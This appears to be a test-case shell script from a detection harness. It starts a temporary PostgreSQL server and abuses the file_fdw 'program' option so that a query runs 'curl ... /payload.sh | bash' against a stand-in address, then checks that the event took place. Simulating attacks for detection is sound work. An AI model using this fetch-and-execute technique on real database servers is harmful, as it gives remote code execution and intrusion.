#!/bin/sh
. /opt/case/case.sh

bin=$(ls -d /usr/lib/postgresql/*/bin)
mkdir -p /srv/pg /run/postgresql && chown postgres /srv/pg /run/postgresql
as() { setpriv --reuid postgres --regid postgres --init-groups env HOME=/srv/pg PGHOST=/run/postgresql "$@"; }
as "$bin/initdb" -A trust -D /srv/pg/d >/dev/null
as "$bin/pg_ctl" -D /srv/pg/d -l /srv/pg/log -w start >/dev/null
psql -qAt -h /run/postgresql -U postgres <<'END'
create extension file_fdw;
create server files foreign data wrapper file_fdw;
create foreign table report (line text) server files options (program 'curl -s http://203.0.113.10/payload.sh | bash; id');
select * from report;
END
wait_for /tmp/reached
as "$bin/pg_ctl" -D /srv/pg/d -m fast -w stop >/dev/null
took_place
